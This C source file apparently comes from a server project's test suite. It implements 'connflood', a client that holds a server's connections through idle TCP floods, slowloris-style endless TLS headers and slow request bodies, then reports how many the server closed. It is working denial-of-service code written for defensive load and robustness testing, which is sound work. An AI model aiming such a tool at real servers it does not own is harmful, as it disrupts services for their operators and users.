/*
 * connflood: a client that holds a server's connections the ways an attacker would, for the
 * attack matrix (tests/attacks/connections.sh).
 *
 *   connflood idle HOST:PORT --from ADDR --count N --seconds S
 *       Opens N TCP connections from source address ADDR (127.0.0.2 is another client than
 *       127.0.0.1 on Linux) and sends nothing. Prints `opened N` once connected, then after S
 *       seconds `closed_by_server K` (the ones the server had closed) and `still_open M`.
 *   connflood slowloris HOST:PORT --from ADDR --count N --every SECONDS --seconds S
 *       N TLS connections (no certificate check: the attacker does not care), each sending a
 *       request line and then one header line every SECONDS, never ending the headers.
 *       After S seconds (or when all are closed): `closed_by_server K`, `still_open M` and
 *       `held_max_s X` (the longest a connection was held before the server closed it; S if
 *       one was still open).
 *   connflood slowbody HOST:PORT --from ADDR --count N --every SECONDS --seconds S
 *       The same with complete headers announcing a 1,000-byte body (an enrollment), then one
 *       byte of it every SECONDS.
 *
 * Exit 0 when it ran (whatever the server did), 2 on usage or local errors. The soft limit on
 * open files is raised to the hard one for large N.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#define CF_MAX_CONNS 20000u
#define CF_MAX_SLOW 512u

struct opts {
	struct sockaddr_in to, from;
	unsigned count;
	double every, seconds;
	bool body; /* slowbody: headers at once, the body slowly */
};

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int tcp_connect(const struct opts *o)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	if (bind(fd, (const struct sockaddr *)&o->from, sizeof(o->from)) < 0 ||
	    connect(fd, (const struct sockaddr *)&o->to, sizeof(o->to)) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* The server closed fd (EOF or reset) as far as can be seen without blocking. */
static bool closed_by_peer(int fd)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	char c;

	if (poll(&p, 1, 0) <= 0)
		return false;
	if (p.revents & (POLLHUP | POLLERR))
		return true;
	return recv(fd, &c, 1, MSG_PEEK | MSG_DONTWAIT) <= 0;
}

static void sleep_s(double s)
{
	struct timespec ts = { .tv_sec = (time_t)s, .tv_nsec = (long)((s - (double)(time_t)s) * 1e9) };

	while (s > 0 && nanosleep(&ts, &ts) != 0 && errno == EINTR)
		;
}

static int run_idle(const struct opts *o)
{
	int *fds = calloc(o->count, sizeof(*fds));
	unsigned opened = 0, closed = 0;

	if (!fds)
		return 2;
	for (unsigned i = 0; i < o->count; i++) {
		fds[i] = tcp_connect(o);
		if (fds[i] >= 0)
			opened++;
	}
	printf("opened %u\n", opened);
	fflush(stdout);
	sleep_s(o->seconds);
	for (unsigned i = 0; i < o->count; i++) {
		if (fds[i] < 0)
			continue;
		closed += closed_by_peer(fds[i]);
		close(fds[i]);
	}
	printf("closed_by_server %u\nstill_open %u\n", closed, opened - closed);
	free(fds);
	return 0;
}

struct slow {
	pthread_t tid;
	const struct opts *o;
	SSL_CTX *ctx;
	double held; /* seconds until the server closed it, or -1 */
	bool started;
};

static void *slow_conn(void *arg)
{
	static const char line0[] = "POST /v1/agents/slow/challenges HTTP/1.1\r\nHost: v\r\n";
	static const char head0[] = "POST /v1/agents HTTP/1.1\r\nHost: v\r\n"
				    "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{";
	struct slow *s = arg;
	const char *first = s->o->body ? head0 : line0;
	double t0 = now_s(), next;
	SSL *ssl = NULL;
	int fd, n = 0;

	s->held = -1;
	fd = tcp_connect(s->o);
	if (fd < 0)
		return NULL;
	ssl = SSL_new(s->ctx);
	if (!ssl || !SSL_set_fd(ssl, fd) || SSL_connect(ssl) != 1 ||
	    SSL_write(ssl, first, (int)strlen(first)) <= 0) {
		s->held = now_s() - t0; /* refused or closed before it could even start */
		goto out;
	}
	s->started = true;
	next = t0 + s->o->every;
	while (now_s() - t0 < s->o->seconds) {
		char hdr[64];
		int len;

		/* Wait for the next line's time, watching for the server closing meanwhile. */
		while (now_s() < next && now_s() - t0 < s->o->seconds) {
			struct pollfd p = { .fd = fd, .events = POLLIN };

			if (poll(&p, 1, 100) > 0) {
				char c;

				if (SSL_read(ssl, &c, 1) <= 0) {
					s->held = now_s() - t0;
					goto out;
				}
			}
		}
		if (s->o->body)
			len = snprintf(hdr, sizeof(hdr), " ");
		else
			len = snprintf(hdr, sizeof(hdr), "X-Slow-%d: still coming\r\n", n++);
		if (SSL_write(ssl, hdr, len) <= 0) {
			s->held = now_s() - t0;
			goto out;
		}
		next += s->o->every;
	}
out:
	SSL_free(ssl);
	close(fd);
	return NULL;
}

static int run_slowloris(const struct opts *o)
{
	struct slow *s = calloc(o->count, sizeof(*s));
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	unsigned closed = 0, open = 0;
	double held_max = 0;

	if (!s || !ctx)
		return 2;
	SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
	for (unsigned i = 0; i < o->count; i++) {
		s[i].o = o;
		s[i].ctx = ctx;
		if (pthread_create(&s[i].tid, NULL, slow_conn, &s[i]) != 0)
			return 2;
	}
	for (unsigned i = 0; i < o->count; i++) {
		pthread_join(s[i].tid, NULL);
		if (s[i].held >= 0) {
			closed++;
			if (s[i].held > held_max)
				held_max = s[i].held;
		} else {
			open++;
			held_max = o->seconds;
		}
	}
	printf("closed_by_server %u\nstill_open %u\nheld_max_s %.1f\n", closed, open, held_max);
	SSL_CTX_free(ctx);
	free(s);
	return 0;
}

static int parse_addr(const char *s, struct sockaddr_in *out, bool with_port)
{
	char host[64];
	const char *colon = with_port ? strrchr(s, ':') : NULL;
	size_t hl = colon ? (size_t)(colon - s) : strlen(s);
	char *end;
	unsigned long port = 0;

	if ((with_port && !colon) || hl == 0 || hl >= sizeof(host))
		return -1;
	memcpy(host, s, hl);
	host[hl] = '\0';
	if (colon) {
		errno = 0;
		port = strtoul(colon + 1, &end, 10);
		if (errno || *end || port == 0 || port > 65535)
			return -1;
	}
	memset(out, 0, sizeof(*out));
	out->sin_family = AF_INET;
	out->sin_port = htons((uint16_t)port);
	return inet_pton(AF_INET, host, &out->sin_addr) == 1 ? 0 : -1;
}

static int parse_num(const char *s, double max, double *out)
{
	char *end;

	errno = 0;
	*out = strtod(s, &end);
	return errno || end == s || *end || *out < 0 || *out > max ? -1 : 0;
}

static void usage(void)
{
	fprintf(stderr, "usage: connflood idle HOST:PORT --from ADDR --count N --seconds S\n"
			"       connflood slowloris|slowbody HOST:PORT --from ADDR --count N"
			" --every SECONDS --seconds S\n");
}

int main(int argc, char **argv)
{
	struct opts o = { .count = 1, .every = 5, .seconds = 10 };
	struct rlimit rl;
	double v;
	bool slow;

	if (argc < 3 ||
	    (strcmp(argv[1], "idle") && strcmp(argv[1], "slowloris") && strcmp(argv[1], "slowbody")) ||
	    parse_addr(argv[2], &o.to, true)) {
		usage();
		return 2;
	}
	o.body = !strcmp(argv[1], "slowbody");
	slow = o.body || !strcmp(argv[1], "slowloris");
	parse_addr("127.0.0.1", &o.from, false);
	for (int i = 3; i + 1 < argc; i += 2) {
		const char *a = argv[i], *val = argv[i + 1];

		if (!strcmp(a, "--from") && !parse_addr(val, &o.from, false))
			continue;
		if (!strcmp(a, "--count") && !parse_num(val, slow ? CF_MAX_SLOW : CF_MAX_CONNS, &v) &&
		    v >= 1) {
			o.count = (unsigned)v;
			continue;
		}
		if (!strcmp(a, "--every") && !parse_num(val, 3600, &o.every) && o.every > 0)
			continue;
		if (!strcmp(a, "--seconds") && !parse_num(val, 3600, &o.seconds))
			continue;
		usage();
		return 2;
	}
	if (argc % 2 == 0) {
		usage();
		return 2;
	}
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < o.count + 64) {
		rl.rlim_cur = rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	return slow ? run_slowloris(&o) : run_idle(&o);
}
